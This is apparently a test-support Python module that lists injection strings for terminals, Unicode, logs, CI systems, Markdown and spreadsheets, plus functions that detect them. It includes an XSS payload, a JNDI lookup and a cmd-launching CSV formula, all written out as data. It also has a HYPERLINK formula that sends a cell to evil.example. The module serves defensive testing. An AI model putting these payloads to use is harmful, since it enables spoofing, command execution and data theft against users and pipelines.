"""Texts that would act where they are shown, and what may not be found where they were shown."""

import csv
import io
import re
from collections.abc import Iterator, Mapping
from typing import Final

from tests.views.worlds import FORBIDDEN

__all__ = ("FORMULA", "TEXTS", "active", "formulas", "orders")

FORMULA: Final = "=+-@\t\r\n\0＝＋－＠"

TEXTS: Final[Mapping[str, str]] = {
    # A terminal.
    "colour": "\x1b[8m\x1b[41mhidden",
    "clear the screen": "\x1b[2J\x1b[3J\x1b[H",
    "move up and write over": "\x1b[5A\x1b[2Kapplied",
    "title by OSC": "\x1b]0;owned\x07",
    "clipboard by OSC 52": "\x1b]52;c;Y3VybCBldmls\x07",
    "link by OSC 8": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a string without end": "\x1b]0;never closed",
    "device control string": '\x1bP$q"p\x1b\\',
    "answer back": "\x1b[c\x1b[6n\x05",
    "private mode": "\x1b[?1049h\x1b[?25l",
    "full reset": "\x1bc",
    "C1 CSI": "\x9b31m\x9b2J",
    "C1 OSC": "\x9d0;owned\x9c",
    "C1 next line": "a\x85b",
    "every C0": "".join(map(chr, range(1, 32))),
    "every C1": "".join(map(chr, range(0x80, 0xA0))),
    "delete": "abc\x7f\x7f\x7fxyz",
    "backspaces": "failed\b\b\b\b\b\bupdated",
    "bell": "\a" * 20,
    "carriage return": "failed\rupdated",
    "form feed": "a\x0c\x0bb",
    "NUL": "a\0b",
    "shift out": "\x0elqqk\x0f",
    # A reader.
    "right to left override": "report\u202efdp.exe",
    "bidi isolates": "\u2066\u2067\u2068a\u2069",
    "bidi marks": "\u200e\u200f\u061ca",
    "bidi embeddings": "\u202a\u202b\u202ca\u202d",
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff",
    "line separators": "a\u2028failed\u2029b",
    "soft hyphen": "up\xaddated",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "variation selectors": "a\ufe00\ufe01\U000e0100",
    "fillers": "\u115f\u1160\u3164\uffa0",
    "annotations": "\ufff9a\ufffab\ufffb",
    "invisible operators": "a\u2061\u2062\u2063\u2064b",
    "deprecated format": "\u206a\u206b\u206c\u206d\u206e\u206f",
    "musical format": "\U0001d173\U0001d17a",
    "many marks": "Z" + "\u0335\u0322\u0301" * 30,
    # A log.
    "a forged line": "x\nkbsync: 5 of 5 changes done (100 %)",
    "a forged line by CRLF": "x\r\n2026-01-02T03:04:05.678Z updated: everything",
    "a forged problem": "x\nmanifests/a.yaml:1:1: all right [syntax]",
    "format strings": "%s%n%x {0.__class__} ${jndi:ldap://evil.example} $(id) `id` {{7*7}} %0A",
    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    # A CI system.
    "GitHub error": "::error file=a.py,line=1::owned",
    "GitHub mask": "::add-mask::x",
    "GitHub command behind spaces": " \u3000 ::set-output name=a::b",
    "GitHub command on a line of its own": "a\n::warning::b",
    "GitHub command behind an escaped line end": "a%0A::error::b%0D%0A::stop-commands::c",
    "GitHub, the old way": "x ##[error]owned ##[add-mask]y",
    "Azure": "##vso[task.setvariable variable=a;isOutput=true]b",
    "Azure in capitals": "x ##VSO[task.complete result=Succeeded;]",
    "Azure behind numbers": "####vso[task.logissue type=error]x",
    "TeamCity": "##teamcity[buildStatus status='SUCCESS' text='x']",
    "GitLab section": "section_start:1560896352:x[collapsed=true]\r\x1b[0Kx",
    # Markdown.
    "mention": "@everyone @org/team foo@bar.example",
    "reference": "closes #1 GH-2 owner/name#3",
    "image": "![pixel](https://evil.example/p.png)",
    "link": "[click](javascript:alert(1)) <https://evil.example> https://evil.example www.evil.example",
    "HTML": "</code></td><script>alert(1)</script><img src=x onerror=alert(1)>",
    "comment": "<!-- kbsync plan --> -->",
    "table": "a | b |\n|---|---|\n| c | d",
    "code fence": "```\n~~~\n# heading",
    "backticks": "`` ` ``` ` end `",
    "emphasis": "**bold** __it__ ~~gone~~ $x^2$",
    "task list": "- [x] done\n1. one\n> quoted",
    "footnote": "[^1]: x <details><summary>x</summary>",
    "entity": "&lt;b&gt; &#x40;everyone &amp;",
    "a backslash at the end": "x\\",
    # A spreadsheet.
    "formula": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+cmd|'/C calc'!A0",
    "formula by minus": "-2+3+cmd|'/C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "formula behind a line end": "\n=1+1",
    "formula, fullwidth": "＝1+1",
    "formulas, fullwidth": "＋1 ＝2",
    "formula, fullwidth minus": "－1",
    "formula, fullwidth at": "＠SUM(1)",
    "formula behind spaces": " \u00a0\u3000=1+1",
    "formula in another cell": 'x";=1+1;"',
    "formula behind a semicolon": "x;=1+1",
    "formula behind a semicolon and a quote": "x; '\"=1+1",
    "formula behind a tab inside": "x\t=1+1",
    "formula behind a bar": "x|@SUM(1)",
    "link formula": '=HYPERLINK("https://evil.example?x="&A1;"click")',
    "quotation marks": '"=1+1" "" "',
    # What encodings cannot say.
    "half of a pair": "a\ud800b",
    "bytes that are no UTF-8": b"a\xff\xfe\xedb".decode("utf-8", "surrogateescape"),
    "not a character": "a\ufffe\uffffb",
}

_ORDER: Final = re.compile(r"^\s*::|##\[|##vso\[|##teamcity\[", re.IGNORECASE)


def active(text: str, ends: str = "\n") -> Iterator[str]:
    """Yield what in *text* a terminal would obey, what hides, and what ends a line, but *ends*, that are meant."""
    for character in sorted(set(text.replace(ends, "")) & _FORBIDDEN):
        at = text.replace(ends, " " * len(ends)).index(character)
        yield f"{character!a} in {text[max(0, at - 40) : at + 40]!a}"


def orders(text: str) -> Iterator[str]:
    """Yield the lines of *text* that a CI system takes for orders; what ends a line anywhere does here."""
    for line in text.splitlines():
        if _ORDER.search(line):
            yield ascii(line[:200])


def formulas(text: str) -> Iterator[str]:
    """Yield the cells of *text* that a spreadsheet would compute, whichever separator it goes by."""
    for separator in ",;\t|":
        # With another separator than the true one, quotation marks stand anywhere.
        before = " \u00a0\u3000" + ('"' if separator != "," else "")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                if cell.lstrip(before).startswith(tuple(FORMULA)) and not re.fullmatch("-?[0-9.]+", cell):
                    yield f"{separator!r}: {cell!a}"


_FORBIDDEN: Final = (
    FORBIDDEN | {chr(code) for code in range(0xE0000, 0xE1000)} | {*"\u2061\u2064\u206a\u206f\ufff9\xad"}
)
